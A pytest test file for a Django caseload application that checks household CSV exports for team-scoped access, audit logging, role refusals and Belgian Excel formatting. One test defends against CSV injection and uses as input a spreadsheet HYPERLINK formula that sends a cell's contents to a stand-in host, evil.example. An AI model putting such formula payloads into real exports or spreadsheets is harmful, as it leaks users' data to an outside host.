"""Exporting the caseload as CSV: only the families the worker may see, and the export
itself is in the audit log."""

import csv
import importlib.util
import io

import pytest
from django.core.management import CommandError, call_command

from radar.core.models import AuditEntry
from radar.households.exports import COLUMNS, write_households_csv
from radar.households.models import Status
from radar.households.tests.factories import HouseholdFactory


def export(user, **filters):
    out = io.StringIO()
    count = write_households_csv(out, user=user, **filters)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert len(rows) == count
    return rows


def test_the_export_contains_the_teams_families_only(outreacher, household, other_household):
    rows = export(outreacher)

    assert [r["name"] for r in rows] == ["Gezin Janssens"]
    assert list(rows[0]) == COLUMNS
    assert rows[0]["id"] == str(household.pk)
    assert rows[0]["team"] == "Noord"
    assert rows[0]["outreachers"] == "outreacher"


def test_the_export_has_no_member_names_or_national_numbers(outreacher, household):
    out = io.StringIO()
    write_households_csv(out, user=outreacher)
    assert "Marie" not in out.getvalue()
    assert "85073003328" not in out.getvalue()


def test_the_export_is_written_to_the_audit_log(outreacher, household, other_household):
    export(outreacher, status=Status.SIGNALLED, query="Jans")

    entry = AuditEntry.objects.get()
    assert entry.action == AuditEntry.Action.EXPORT
    assert entry.user == outreacher
    assert entry.object_type == "households.household"
    assert entry.channel == "web"
    assert entry.detail == {"rows": 1, "query": "Jans", "status": "signalled", "mine": False}


def test_the_export_follows_the_filters(outreacher, team_north, household):
    HouseholdFactory(team=team_north, name="Gezin Claes", status=Status.IN_CONTACT)
    assert [r["name"] for r in export(outreacher, status=Status.IN_CONTACT)] == ["Gezin Claes"]
    assert [r["name"] for r in export(outreacher, mine=True)] == ["Gezin Janssens"]


def test_the_other_team_exports_only_its_own(other_outreacher, household, other_household):
    assert [r["name"] for r in export(other_outreacher)] == ["Gezin Maes"]


@pytest.mark.parametrize("persona", ["partner", "policy", "administrator"])
def test_roles_without_casework_export_an_empty_file_and_it_is_logged(request, persona, household):
    user = request.getfixturevalue(persona)
    assert export(user) == []
    assert AuditEntry.objects.get().detail["rows"] == 0


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?d="&A1,"info")', "@SUM(A1)"])
def test_a_name_that_looks_like_a_formula_is_not_exported_as_one(outreacher, team_north, name):
    """Spreadsheets run cells starting with = + - @ as formulas (CSV injection)."""
    HouseholdFactory(team=team_north, name=name)
    (row,) = export(outreacher)
    assert not row["name"].startswith(("=", "+", "-", "@"))
    assert name in row["name"]


def test_the_export_page_downloads_the_csv(client_for, outreacher, household, other_household):
    response = client_for(outreacher).get("/households/export.csv")

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    content = response.content.decode()
    assert "Gezin Janssens" in content
    assert "Gezin Maes" not in content
    assert AuditEntry.objects.get().action == "export"


@pytest.mark.parametrize("persona", ["partner", "policy"])
def test_the_export_page_refuses_roles_without_casework(client_for, request, persona, household):
    response = client_for(request.getfixturevalue(persona)).get("/households/export.csv")
    assert response.status_code == 403
    assert not AuditEntry.objects.filter(action="export").exists()


has_command = importlib.util.find_spec("radar.households.management") is not None and (
    importlib.util.find_spec("radar.households.management.commands.export_households") is not None
)
needs_command = pytest.mark.skipif(
    not has_command, reason="the export_households command is not written yet"
)


@needs_command
def test_the_command_exports_the_users_families(outreacher, household, other_household, capsys):
    call_command("export_households", "--user", "outreacher")

    out = capsys.readouterr().out
    assert "Gezin Janssens" in out
    assert "Gezin Maes" not in out
    entry = AuditEntry.objects.get(action="export")
    assert entry.user == outreacher
    assert entry.channel == "cli"


@needs_command
def test_the_command_writes_to_a_file(outreacher, household, other_household, tmp_path):
    target = tmp_path / "caseload.csv"
    call_command("export_households", "--user", "outreacher", "--output", str(target))

    rows = list(csv.DictReader(target.open(encoding="utf-8")))
    assert [r["name"] for r in rows] == ["Gezin Janssens"]


@needs_command
@pytest.mark.parametrize("username", ["policy", "partner", "administrator", "nobody"])
def test_the_command_refuses_users_who_see_no_named_family(request, username, household, capsys):
    if username != "nobody":
        request.getfixturevalue(username)
    with pytest.raises(CommandError):
        call_command("export_households", "--user", username)
    assert "Gezin Janssens" not in capsys.readouterr().out
    assert not AuditEntry.objects.filter(action="export").exists()


def test_the_page_download_opens_in_columns_in_belgian_excel(
    client_for, outreacher, household, other_household
):
    """Excel in nl-BE/fr-BE: `;` between columns, a byte-order mark for UTF-8, headers and
    yes/no in the user's language (issue 15)."""
    outreacher.language = "fr"
    outreacher.save()
    household.name = "Gezin Çelik-Janssens"
    household.save()

    raw = client_for(outreacher).get("/households/export.csv").content

    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:2] == ["numéro", "famille"]
    assert len(rows[0]) == len(COLUMNS)
    assert rows[1][1] == "Gezin Çelik-Janssens"
    assert rows[1][COLUMNS.index("known_to_ocmw")] in {"oui", "non"}


def test_the_social_map_download_is_for_excel_and_can_be_imported_again(client_for, outreacher):
    from radar.organisations.social_map_csv import read_social_map
    from radar.organisations.tests.factories import OrganisationFactory

    OrganisationFactory(name="CAW De Kempen; Mol")
    raw = client_for(outreacher).get("/organisations/export.csv").content

    assert raw.startswith(b"\xef\xbb\xbf")
    text = raw.decode("utf-8-sig")
    assert text.splitlines()[0].count(";") >= 3
    assert "CAW De Kempen; Mol" in list(csv.reader(io.StringIO(text), delimiter=";"))[1]
    (again,) = read_social_map(raw)  # the import reads the mark and the `;`
    assert again.existing is not None
